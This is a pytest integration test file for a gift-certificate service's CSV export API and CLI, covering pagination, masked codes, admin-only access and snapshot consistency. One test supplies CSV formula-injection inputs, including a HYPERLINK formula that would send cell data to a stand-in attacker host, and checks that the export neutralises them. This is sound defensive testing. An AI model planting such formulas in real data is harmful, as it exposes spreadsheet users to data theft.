"""`POST .../certificates/export` and `giftcert certificates export`: a search's whole selection as
CSV, read a page at a time (pages of two here), never holding a code, and no customer text a
spreadsheet would run as a formula; for admin keys only."""

import asyncio
import csv
import io
from datetime import UTC, datetime
from pathlib import Path
from typing import Any
from uuid import uuid4

import httpx
import pytest
from typer.testing import CliRunner

from giftcert.domain.api_key import Scope
from giftcert.domain.codes import display_code
from giftcert.operations import export
from giftcert.operations.search import CertificateSearch
from giftcert_services.cli.main import app
from giftcert_services.runtime.bootstrap import Dependencies
from tests.api.conftest import Shop, active_certificate, new_key, purchase_body

pytestmark = pytest.mark.integration


@pytest.fixture(autouse=True)
def pages_of_two(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(export, "PAGE_SIZE", 2)


def rows_of(response: httpx.Response) -> list[dict[str, str]]:
    assert response.status_code == 200, response.text
    return list(csv.DictReader(io.StringIO(response.text, newline="")))


async def searched(http: httpx.AsyncClient, shop: Shop, **filters: Any) -> list[str]:
    """The ids a search selects, every page of it."""
    found: list[str] = []
    body: dict[str, Any] = {"limit": 2} | filters
    while True:
        page = (await http.post(f"{shop.base}/certificates/search", headers=shop.admin, json=body)).json()
        found += [c["certificate_id"] for c in page["certificates"]]
        if page["next_cursor"] is None:
            return found
        body["after"] = page["next_cursor"]


async def test_the_export_holds_exactly_what_the_search_selects_across_pages(
    http: httpx.AsyncClient, shop: Shop, other_shop: Shop
) -> None:
    active = [await active_certificate(http, shop) for _ in range(5)]
    for _ in range(2):
        pending = await http.post(f"{shop.base}/certificates", headers=shop.admin, json=purchase_body())
        assert pending.status_code == 201, pending.text
    await active_certificate(http, other_shop)
    url = f"{shop.base}/certificates/export"

    only_active = rows_of(await http.post(url, headers=shop.admin, json={"status": "active"}))
    assert [r["certificate_id"] for r in only_active] == await searched(http, shop, status="active")
    assert sorted(r["certificate_id"] for r in only_active) == sorted(c["certificate_id"] for c in active)

    everything = rows_of(await http.post(url, headers=shop.admin))
    assert [r["certificate_id"] for r in everything] == await searched(http, shop)
    assert len(everything) == 7  # four pages of two

    assert rows_of(await http.post(url, headers=shop.admin, json={"status": "redeemed"})) == []


async def test_every_column_is_the_certificates_as_its_details_and_balance_show_it(
    http: httpx.AsyncClient, shop: Shop, api_deps: Dependencies
) -> None:
    await http.patch(f"{shop.base}/settings", headers=shop.admin, json={"redemption_mode": "partial"})
    detail = await active_certificate(http, shop, segment="tours")
    booking = await new_key(api_deps, shop.workspace, Scope.BOOKING)
    redemption = {"request_id": str(uuid4()), "order_id": "order-1", "code": detail["code"],
                  "order_total": {"minor": 10000, "currency": "EUR"}, "amount": {"minor": 1200, "currency": "EUR"},
                  "segment": "tours"}
    redeemed = await http.post(f"{shop.base}/redemptions", headers=booking, json=redemption)
    assert redeemed.status_code == 200, redeemed.text
    balance = (await http.post(f"{shop.base}/balance", headers=shop.admin, json={"code": detail["code"]})).json()
    detail = (await http.get(f"{shop.base}/certificates/{detail['certificate_id']}", headers=shop.admin)).json()

    response = await http.post(f"{shop.base}/certificates/export", headers=shop.admin, json={})
    assert response.text.splitlines()[0] == ",".join(export.COLUMNS)
    [row] = rows_of(response)

    def utc(field: str) -> str:
        value = detail[field]
        return "" if value is None else exported_time(value)

    assert row == {
        "certificate_id": detail["certificate_id"], "kind": "purchased", "status": "active",
        "code_last4": detail["code"][-4:], "currency": "EUR", "value_minor": "5000",
        "balance_minor": str(balance["balance"]["minor"]),
        **{f: utc(f) for f in ("created_at", "activated_at", "expires_at", "redeemed_at", "voided_at", "expired_at")},
        "channel": "admin", "segment": "tours",
        "purchaser_name": "Pat Buyer", "purchaser_email": "pat@example.com",
        "recipient_name": "Robin Friend", "recipient_email": "robin@example.com", "payment_id": detail["payment_id"],
    }
    assert row["balance_minor"] == "3800"


def exported_time(iso: str) -> str:
    """The API's ISO 8601 time as the export writes it: UTC, to the second, with a Z."""
    return datetime.fromisoformat(iso).astimezone(UTC).isoformat(timespec="seconds").replace("+00:00", "Z")


async def test_the_export_never_holds_a_full_code_in_any_spelling(http: httpx.AsyncClient, shop: Shop) -> None:
    codes = [(await active_certificate(http, shop))["code"] for _ in range(3)]
    body = (await http.post(f"{shop.base}/certificates/export", headers=shop.admin)).text
    assert len(rows_of(await http.post(f"{shop.base}/certificates/export", headers=shop.admin))) == 3
    for code in codes:
        assert code not in body
        assert display_code(code) not in body
        assert code[-4:] in body


async def test_customer_text_that_could_start_a_formula_is_exported_as_text(
    http: httpx.AsyncClient, shop: Shop
) -> None:
    attack = '=HYPERLINK("https://evil.example/?"&A1,"Refund")'
    issued = await http.post(f"{shop.base}/certificates", headers=shop.admin, json=purchase_body(
        purchaser={"name": attack, "email": "=1+1@example.com"},
        recipient={"name": "@SUM(A1:A9)", "email": "-x@example.com"},
    ))
    assert issued.status_code == 201, issued.text
    paid = await http.post(f"{shop.base}/certificates/{issued.json()['certificate_id']}/payments",
                           headers=shop.admin, json={"payment_reference": "+2-3"})
    assert paid.status_code == 200, paid.text

    [row] = rows_of(await http.post(f"{shop.base}/certificates/export", headers=shop.admin))
    assert (row["purchaser_name"], row["purchaser_email"]) == (f"'{attack}", "'=1+1@example.com")
    assert (row["recipient_name"], row["recipient_email"]) == ("'@SUM(A1:A9)", "'-x@example.com")
    assert row["payment_id"] == "'+2-3"


async def test_the_export_is_a_csv_attachment_named_by_workspace_and_day_and_not_cached(
    http: httpx.AsyncClient, shop: Shop, api_deps: Dependencies
) -> None:
    response = await http.post(f"{shop.base}/certificates/export", headers=shop.admin, json={})
    assert response.status_code == 200
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    day = api_deps.clock.now().date().isoformat()
    assert response.headers["content-disposition"] == f'attachment; filename="certificates-{shop.workspace}-{day}.csv"'
    assert response.headers["cache-control"] == "no-store"
    assert response.content == (",".join(export.COLUMNS) + "\r\n").encode()


async def test_only_an_admin_key_of_the_workspace_exports(
    http: httpx.AsyncClient, shop: Shop, other_shop: Shop, api_deps: Dependencies
) -> None:
    await active_certificate(http, shop)
    url = f"{shop.base}/certificates/export"
    booking = await new_key(api_deps, shop.workspace, Scope.BOOKING)
    for headers, status in ((shop.portal, 403), (booking, 403), (other_shop.admin, 403), ({}, 401)):
        refused = await http.post(url, headers=headers, json={})
        assert refused.status_code == status, refused.text
        assert "certificate_id" not in refused.text


async def test_a_code_or_a_page_is_not_an_export_filter(http: httpx.AsyncClient, shop: Shop) -> None:
    for body in ({"code": "ABCD-EFGH-JKMN"}, {"limit": 10}, {"after": "x"}, {"status": "gone"}):
        refused = await http.post(f"{shop.base}/certificates/export", headers=shop.admin, json=body)
        assert refused.status_code == 422, body


async def test_the_cli_writes_to_a_file_what_the_api_answers(
    http: httpx.AsyncClient, shop: Shop, api_database_url: str, tmp_path: Path
) -> None:
    for _ in range(3):
        await active_certificate(http, shop)
    await http.post(f"{shop.base}/certificates", headers=shop.admin, json=purchase_body())
    api = await http.post(f"{shop.base}/certificates/export", headers=shop.admin, json={"status": "active"})
    target = tmp_path / "active.csv"

    def giftcert(*args: str, database_url: str = api_database_url) -> Any:
        return CliRunner().invoke(app, ["certificates", "export", "--workspace", shop.workspace, "--status", "active",
                                        *args], env={"GIFTCERT_DATABASE_URL": database_url})

    to_file = await asyncio.to_thread(giftcert, "--output", str(target))
    assert to_file.exit_code == 0, to_file.output
    assert target.read_bytes() == api.content
    assert [p.name for p in tmp_path.iterdir()] == ["active.csv"]
    assert len(rows_of(api)) == 3
    to_stdout = await asyncio.to_thread(giftcert)
    assert to_stdout.exit_code == 0, to_stdout.output
    assert to_stdout.stdout_bytes == api.content


async def test_a_cli_export_cut_short_leaves_no_file_that_looks_complete(shop: Shop, tmp_path: Path) -> None:
    target = tmp_path / "all.csv"
    nowhere = "postgresql+asyncpg://postgres@127.0.0.1:9/none"
    failed = await asyncio.to_thread(CliRunner().invoke, app, [
        "certificates", "export", "--workspace", shop.workspace, "--output", str(target),
    ], env={"GIFTCERT_DATABASE_URL": nowhere})
    assert failed.exit_code == 1
    assert "database unavailable" in failed.output
    assert list(tmp_path.iterdir()) == []


async def test_the_export_reads_a_page_at_a_time_and_hands_each_on_before_the_next(
    http: httpx.AsyncClient, shop: Shop, api_deps: Dependencies
) -> None:
    for _ in range(5):
        await active_certificate(http, shop)
    query = CertificateSearch(workspace_id=shop.workspace)
    chunks = [chunk async for chunk in export.export_certificates(api_deps.engine, query)]
    assert [len(list(csv.reader(io.StringIO(c, newline="")))) for c in chunks] == [1, 2, 2, 1]  # header, pages


async def test_one_export_is_one_snapshot_whatever_changes_while_it_streams(
    http: httpx.AsyncClient, shop: Shop, api_deps: Dependencies
) -> None:
    oldest = await active_certificate(http, shop)
    for _ in range(3):
        await active_certificate(http, shop)
    stream = export.export_certificates(api_deps.engine, CertificateSearch(workspace_id=shop.workspace))
    header_and_first_page = [await anext(stream), await anext(stream)]
    voided = await http.post(f"{shop.base}/certificates/{oldest['certificate_id']}/void", headers=shop.admin,
                             json={"reason": "while the export streams"})
    assert voided.json()["status"] == "voided", voided.text
    late = await http.post(f"{shop.base}/certificates", headers=shop.admin, json=purchase_body())
    assert late.status_code == 201
    text = "".join(header_and_first_page) + "".join([chunk async for chunk in stream])
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert len(rows) == 4
    assert rows[-1]["certificate_id"] == oldest["certificate_id"]
    assert (rows[-1]["status"], rows[-1]["voided_at"]) == ("active", "")  # as it was when the export began
